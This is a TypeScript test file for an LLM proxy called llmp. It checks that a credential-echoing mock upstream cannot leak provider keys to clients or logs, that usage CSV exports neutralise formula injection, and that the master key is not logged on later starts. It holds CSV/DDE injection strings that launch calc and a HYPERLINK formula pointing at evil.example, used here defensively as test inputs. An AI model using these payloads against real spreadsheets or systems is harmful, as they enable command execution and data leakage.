import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { INestApplicationContext } from '@nestjs/common';
import { canaryMasterKey, CanaryScanner } from '../support/canary';
import { useIsolatedDatabase } from '../support/isolated-database';
import { runCli } from '../cli/cli-runner';
import { parseCsv } from '../support/csv';
import { fetchJson } from '../support/http-json';
import { spawnAdmin, spawnApi, startWorkers, stopPlanes, waitFor, writeConfig, type ApiProcess } from '../production/production.fixture';
import { faultCase } from './fault-report';

const CALL_TIMEOUT_MS = 20_000;
const hex = (): string => randomBytes(12).toString('hex');

/** The provider types llmp translates to, each a model of its own on the echoing upstream. */
type ProviderType = 'openai' | 'anthropic' | 'gemini' | 'ollama';
const TYPES: readonly ProviderType[] = ['openai', 'anthropic', 'gemini', 'ollama'];
/** What the echoing upstream is asked to do, by a marker in the prompt. */
const MARKERS = ['echo-400', 'echo-401', 'echo-422', 'echo-429', 'echo-500', 'echo-midstream', 'echo-2xx-error'] as const;
type Marker = (typeof MARKERS)[number];

/**
 * A misbehaving provider as a real HTTP server: whatever it is asked, it answers with the credentials it received
 * (Authorization, x-api-key, x-goog-api-key, a configured extra header) and some llmp never sent it (another
 * provider's key, raw and URL-, JSON- and base64-encoded), in the error body, in its headers, in a 2xx error object,
 * or in an error event in the middle of a stream, in the framing of the provider type it plays.
 */
class EchoingUpstream {
  private server: Server | null = null;
  requests = 0;
  constructor(private readonly foreign: () => string) {}

  async start(): Promise<string> {
    this.server = createServer((req, res) => void this.handle(req, res));
    this.server.listen(0, '127.0.0.1');
    await once(this.server, 'listening');
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  async close(): Promise<void> {
    this.server?.closeAllConnections();
    await new Promise((r) => (this.server ? this.server.close(r) : r(undefined)));
  }

  private async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const chunks: Buffer[] = [];
    for await (const c of req) chunks.push(c as Buffer);
    const body = Buffer.concat(chunks).toString('utf8');
    this.requests++;
    const marker = MARKERS.find((m) => body.includes(m)) ?? 'echo-400';
    const type = (['anthropic', 'gemini', 'ollama'] as const).find((t) => req.url?.includes(`/${t}/`)) ?? 'openai';
    const received = [req.headers.authorization, req.headers['x-api-key'], req.headers['x-goog-api-key'], req.headers['x-tenant-secret']]
      .filter((v): v is string => typeof v === 'string')
      .join(' | ');
    const message = `invalid credentials: ${received}; also known here: ${this.foreign()}`;
    const echoHeaders = { 'x-echo-credentials': encodeURIComponent(received), 'x-upstream-auth': String(req.headers.authorization ?? '') };
    const errorObject = { type: 'error', error: { message, type: 'invalid_request_error', code: 'echo', status: 'INVALID_ARGUMENT' }, request: { url: req.url, headers: req.headers } };

    if (marker === 'echo-midstream') {
      const ndjson = type === 'ollama';
      res.writeHead(200, { 'content-type': ndjson ? 'application/x-ndjson' : 'text/event-stream', ...echoHeaders });
      const first: Record<ProviderType, string> = {
        openai: `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', created: 1, model: 'x', choices: [{ index: 0, delta: { role: 'assistant', content: 'partial ' }, finish_reason: null }] })}\n\n`,
        anthropic: '',
        gemini: `data: ${JSON.stringify({ candidates: [{ content: { role: 'model', parts: [{ text: 'partial ' }] }, index: 0 }] })}\n\n`,
        ollama: `${JSON.stringify({ model: 'x', created_at: new Date().toISOString(), message: { role: 'assistant', content: 'partial ' }, done: false })}\n`,
      };
      const failure: Record<ProviderType, string> = {
        openai: `data: ${JSON.stringify({ error: { message, type: 'server_error' } })}\n\n`,
        anthropic: `event: error\ndata: ${JSON.stringify({ type: 'error', error: { type: 'api_error', message } })}\n\n`,
        gemini: `data: ${JSON.stringify({ error: { code: 500, message, status: 'INTERNAL' } })}\n\n`,
        ollama: `${JSON.stringify({ error: message })}\n`,
      };
      res.write(first[type]);
      await new Promise((r) => setTimeout(r, 20));
      res.end(failure[type]);
      return;
    }
    if (marker === 'echo-2xx-error') {
      res.writeHead(200, { 'content-type': 'application/json', ...echoHeaders });
      res.end(JSON.stringify(type === 'ollama' ? { error: message } : errorObject));
      return;
    }
    const status = Number(marker.slice(5));
    // The content type is the one upstream header llmp forwards (on an OpenAI pass-through): it echoes too.
    res.writeHead(status, { 'content-type': `application/json; echo="${encodeURIComponent(received)}"`, ...echoHeaders });
    res.end(JSON.stringify(errorObject));
  }
}

/**
 * What leaves llmp (issue 18, section 7): an upstream that echoes llmp's provider credentials never gets them to a
 * client on any surface, nor into logs, queued jobs or the database; usage CSV exports neutralise formula cells;
 * the start-up banner prints no key into a log on a later start.
 */
describe('attack: what leaves llmp', () => {
  const canary = new CanaryScanner();
  const master = canary.add(canaryMasterKey());
  // Opaque secrets (no shape a pattern knows), so only the exact-value match can catch them, one per provider and
  // one of a provider that is never called; the first has characters that JSON and URL encodings change.
  const keys: Record<ProviderType | 'spare' | 'tenant', string> = {
    openai: `opaque-openai-${hex()}"/+=`,
    anthropic: `opaque-anthropic-${hex()}`,
    gemini: `opaque-gemini-${hex()}`,
    ollama: `opaque-ollama-${hex()}`,
    tenant: `opaque-tenant-header-${hex()}`,
    spare: `opaque-spare-${hex()}`,
  };
  /** Each secret in every form the upstream echoes it: raw, JSON-escaped, URL-encoded, base64 of `user:secret`. */
  const forms = (s: string): string[] => [s, JSON.stringify(s).slice(1, -1), encodeURIComponent(s), Buffer.from(`user:${s}`).toString('base64')];
  for (const k of Object.values(keys)) for (const f of new Set(forms(k))) canary.add(f);
  const upstream = new EchoingUpstream(() => [keys.spare, ...forms(keys.openai).slice(1), `Basic ${Buffer.from(`user:${keys.gemini}`).toString('base64')}`].join(' , '));
  const masterAuth = { authorization: `Bearer ${master}` };
  const HOSTILE_KEY = `-2+3+cmd|' /C calc'!A0`;
  const HOSTILE_TEAM = '=HYPERLINK("http://evil.example/?leak","click")';
  const HOSTILE_MODELS = ['@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', '+1+cmd', HOSTILE_KEY];
  let api: ApiProcess;
  let admin: ApiProcess;
  let workers: INestApplicationContext | undefined;
  let dropDatabase: () => Promise<void>;
  let clientKey: string;
  let keyId: string;
  const dataDir = mkdtempSync(join(tmpdir(), 'llmp-egress-'));
  let config: string;
  const upstreamEnv = {
    EGRESS_OPENAI: keys.openai,
    EGRESS_ANTHROPIC: keys.anthropic,
    EGRESS_GEMINI: keys.gemini,
    EGRESS_OLLAMA: keys.ollama,
    EGRESS_TENANT: keys.tenant,
    EGRESS_SPARE: keys.spare,
  };

  const adminCall = async (method: string, path: string, body?: unknown) => {
    const res = await fetchJson(`${admin.url}${path}`, { method, headers: masterAuth, body, timeoutMs: CALL_TIMEOUT_MS });
    const { text } = res;
    const json = res.headers.get('content-type')?.includes('json') ? res.json : null;
    const issued = typeof json?.key === 'string' ? [json.key as string] : [];
    for (const s of issued) canary.add(s);
    canary.sawResponse(`admin ${method} ${path}`, issued.reduce((t, s) => t.split(s).join('<issued>'), `${res.status} ${JSON.stringify([...res.headers])}\n${text}`));
    return { status: res.status, json, text };
  };

  beforeAll(async () => {
    dropDatabase = await useIsolatedDatabase();
    const base = await upstream.start();
    config = writeConfig(`
providers:
  - { name: e-openai, type: openai, baseUrl: "${base}/openai/v1", apiKey: "\${EGRESS_OPENAI}", timeoutMs: 5000 }
  - { name: e-anthropic, type: anthropic, baseUrl: "${base}/anthropic", apiKey: "\${EGRESS_ANTHROPIC}", timeoutMs: 5000 }
  - { name: e-gemini, type: gemini, baseUrl: "${base}/gemini", apiKey: "\${EGRESS_GEMINI}", timeoutMs: 5000 }
  - name: e-ollama
    type: ollama
    baseUrl: "${base}/ollama"
    apiKey: "\${EGRESS_OLLAMA}"
    headers: { x-tenant-secret: "\${EGRESS_TENANT}" }
    timeoutMs: 5000
  - { name: spare, type: openai, baseUrl: "http://127.0.0.1:9/v1", apiKey: "\${EGRESS_SPARE}" }
models:
${TYPES.map((t) => `  - { name: m-${t}, targets: [{ provider: e-${t}, model: up-${t} }] }`).join('\n')}
auth: { mode: required }
routing: { cooldownMs: 0 }
`);
    const env = {
      LLMP_CONFIG: config,
      ...upstreamEnv,
      LLMP_MASTER_KEY: master,
      LLMP_DATA_DIR: dataDir,
      LLMP_LOG_LEVEL: 'debug',
    };
    [admin, api] = await Promise.all([
      spawnAdmin(env, { onSpawn: (c) => canary.capture(c, 'admin') }),
      spawnApi(env, { onSpawn: (c) => canary.capture(c, 'api') }),
    ]);
    workers = await startWorkers();
    const team = await adminCall('POST', '/admin/v1/teams', { name: HOSTILE_TEAM });
    expect(team.status).toBe(201);
    // debugLogging on: the data plane also logs this key's bodies, which must be scrubbed as well.
    const key = await adminCall('POST', '/admin/v1/keys', { name: HOSTILE_KEY, teamId: team.json.id, debugLogging: true });
    expect(key.status).toBe(201);
    clientKey = key.json.key;
    keyId = key.json.id;
  }, 120_000);

  afterAll(async () => {
    await stopPlanes(workers, api, admin);
    await upstream.close();
    await dropDatabase?.();
  });

  /** One request on a surface; the whole response (status, headers, body bytes) goes to the canary scan. */
  const call = (label: string, path: string, body: unknown, credential?: Record<string, string>) =>
    canary.fetch(`api ${label}`, `${api.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(credential ?? { authorization: `Bearer ${clientKey}` }) },
      body: JSON.stringify(body),
      signal: AbortSignal.timeout(CALL_TIMEOUT_MS),
    });

  /** Every surface's request for `model` carrying `marker`, streamed or not. */
  const surfaces = (model: string, marker: Marker, stream: boolean): { label: string; path: string; body: unknown; headers?: Record<string, string> }[] => {
    const messages = [{ role: 'user', content: `please ${marker}` }];
    const list = [
      { label: 'openai chat', path: '/v1/chat/completions', body: { model, messages, stream } },
      { label: 'openai responses', path: '/v1/responses', body: { model, input: `please ${marker}`, stream } },
      { label: 'anthropic messages', path: '/v1/messages', body: { model, max_tokens: 64, messages, stream } },
      {
        label: 'gemini',
        path: `/v1beta/models/${model}:${stream ? 'streamGenerateContent?alt=sse' : 'generateContent'}`,
        body: { contents: [{ role: 'user', parts: [{ text: `please ${marker}` }] }] },
        headers: { 'x-goog-api-key': clientKey },
      },
      { label: 'ollama chat', path: '/api/chat', body: { model, messages, stream } },
      { label: 'ollama generate', path: '/api/generate', body: { model, prompt: `please ${marker}`, stream } },
    ];
    // Embeddings never stream: once per marker, on the provider types that serve them.
    if (!stream && (model === 'm-openai' || model === 'm-ollama' || model === 'm-gemini')) {
      list.push({ label: 'openai embeddings', path: '/v1/embeddings', body: { model, input: `please ${marker}` } as never });
    }
    if (model === 'm-openai') list.push({ label: 'openai completions', path: '/v1/completions', body: { model, prompt: `please ${marker}`, stream } as never });
    return list;
  };

  faultCase(
    'attack',
    'an upstream echoing llmp\'s provider credentials (4xx/429/5xx bodies, headers, 2xx errors, mid-stream errors) never gets them to a client, a log or a job',
    async (ctx) => {
      const seen = new Map<string, number>();
      for (const type of TYPES) {
        for (const marker of MARKERS) {
          for (const stream of [false, true]) {
            for (const s of surfaces(`m-${type}`, marker, stream)) {
              ctx.step(`${type} ${marker} ${s.label} stream=${stream}`);
              const res = await call(`${type} ${marker} ${s.label} stream=${stream}`, s.path, s.body, s.headers);
              const { text } = res;
              // The upstream's failure still reaches the client as an error of some kind, only without the secrets.
              const failed = res.status >= 400 || /error/i.test(text);
              expect({ type, marker, surface: s.label, stream, failed }).toEqual({ type, marker, surface: s.label, stream, failed: true });
              expect({ type, marker, surface: s.label, stream, leaked: /opaque-/.test(text) }).toEqual({ type, marker, surface: s.label, stream, leaked: false });
              seen.set(String(res.status), (seen.get(String(res.status)) ?? 0) + 1);
            }
          }
        }
      }
      ctx.note(`statuses ${JSON.stringify(Object.fromEntries(seen))}, ${upstream.requests} upstream calls`);
      // Pass-throughs, fail-overs, 2xx errors and mid-stream errors all happened (not just llmp refusing early).
      for (const status of ['400', '401', '422', '429', '502']) expect({ status, seen: (seen.get(status) ?? 0) > 0 }).toEqual({ status, seen: true });
      expect(seen.get('200') ?? 0).toBeGreaterThan(0);
      // Usage records of these requests reach the ledger (their attempt reasons included) before the scan.
      await waitFor('ledger rows of the echo requests', async () => {
        const r = await adminCall('GET', `/admin/v1/usage/records?keyId=${keyId}&limit=1`);
        return r.status === 200 && r.json.data.length > 0;
      }, 20_000);
      // Log lines reach stdout in batches: give the last ones a moment before scanning the output.
      await new Promise((r) => setTimeout(r, 1500));
      const hits = await canary.scan();
      expect(hits).toEqual([]);
    },
    240_000,
  );

  faultCase('attack', 'usage CSV neutralises formula cells in key, team and model names (admin API and `llmp usage --csv`)', async (ctx) => {
    // A second key and team whose names start with a tab and a carriage return (stored as given, or trimmed).
    const team = await adminCall('POST', '/admin/v1/teams', { name: '\r=1+2' });
    expect(team.status).toBe(201);
    const second = await adminCall('POST', '/admin/v1/keys', { name: '\t=1+2', teamId: team.json.id });
    expect(second.status).toBe(201);
    // Requests naming unknown models land in the ledger under the name the client sent (leading whitespace trimmed).
    for (const [model, credential] of [...HOSTILE_MODELS.map((m) => [m, clientKey]), ['@SUM(2+2)', second.json.key as string]]) {
      const res = await call(`hostile model ${JSON.stringify(model)}`, '/v1/chat/completions', { model, messages: [{ role: 'user', content: 'hi' }] }, { authorization: `Bearer ${credential}` });
      expect(res.status).toBeGreaterThanOrEqual(400);
    }
    const stored = (m: string): string => m.trim().replace(/"/g, '""');
    const from = new Date(Date.now() - 86_400_000).toISOString();
    const to = new Date(Date.now() + 3_600_000).toISOString();
    const path = `/admin/v1/usage?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}&groupBy=key,team,model&format=csv`;
    let csv = '';
    ctx.step('waiting for the rollups');
    await waitFor('every hostile model in the report', async () => {
      csv = (await adminCall('GET', path)).text;
      return [...HOSTILE_MODELS, '@SUM(2+2)'].every((m) => csv.includes(stored(m)));
    }, 30_000).catch((e: Error) => {
      throw new Error(`${e.message}; the report said:\n${csv}`);
    });
    const cli = await runCli(['usage', '--from', from, '--to', to, '--group-by', 'key,team,model', '--csv'], { LLMP_ADMIN_URL: admin.url, LLMP_MASTER_KEY: master });
    expect(cli.code).toBe(0);
    for (const [label, text] of [['admin API', csv], ['llmp usage --csv', cli.stdout]] as const) {
      const rows = parseCsv(text);
      const header = rows[0];
      expect(header).toEqual(['keyId', 'keyName', 'teamId', 'teamName', 'model', 'requests', 'errors', 'promptTokens', 'completionTokens', 'totalTokens', 'costUsd']);
      const mine = rows.slice(1).filter((r) => r[0] === keyId);
      expect({ label, rows: mine.length >= HOSTILE_MODELS.length - 1 }).toEqual({ label, rows: true });
      for (const r of mine) {
        expect(r[1]).toBe(`'${HOSTILE_KEY}`);
        expect(r[3]).toBe(`'${HOSTILE_TEAM}`);
      }
      const other = rows.slice(1).find((r) => r[0] === second.json.id);
      expect(other?.[1]).toMatch(/^'(\t)?=1\+2$/);
      expect(other?.[3]).toMatch(/^'(\r)?=1\+2$/);
      expect(other?.[4]).toBe(`'@SUM(2+2)`);
      // No cell of the export (any key) would be evaluated; counts and costs are plain numbers.
      for (const r of rows.slice(1)) {
        for (const cell of r) expect({ label, cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ label, cell, formula: false });
        for (const n of r.slice(5)) expect(n).toMatch(/^\d+(\.\d+)?$/);
      }
      for (const m of HOSTILE_MODELS) expect({ label, m, neutralised: mine.some((r) => r[4] === `'${m.trim()}`) }).toEqual({ label, m, neutralised: true });
    }
  }, 60_000);

  faultCase('attack', 'the start-up banner prints the generated master key on its first run only, never on a later start into a log', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'llmp-banner-'));
    const start = async (): Promise<string> => {
      const a = await spawnAdmin({ LLMP_DATA_DIR: dir, LLMP_MASTER_KEY: '', LLMP_CONFIG: config, ...upstreamEnv });
      await waitFor('the banner', () => a.output().includes('Demo key'), 15_000);
      a.child.kill('SIGTERM');
      await a.exited;
      return a.output();
    };
    const first = await start();
    const generated = readFileSync(join(dir, 'master.key'), 'utf8').trim();
    expect(generated).toMatch(/^llmp_admin_/);
    // stdout is a pipe here, as in a log file: the run that generated the key still shows it, once.
    expect(first).toContain(generated);
    const second = await start();
    expect(second).not.toContain(generated);
    expect(second).toContain('not shown: stdout is not a terminal');
    expect(second).not.toMatch(/llmp_[A-Za-z0-9_-]{20,}/);
  }, 90_000);
});
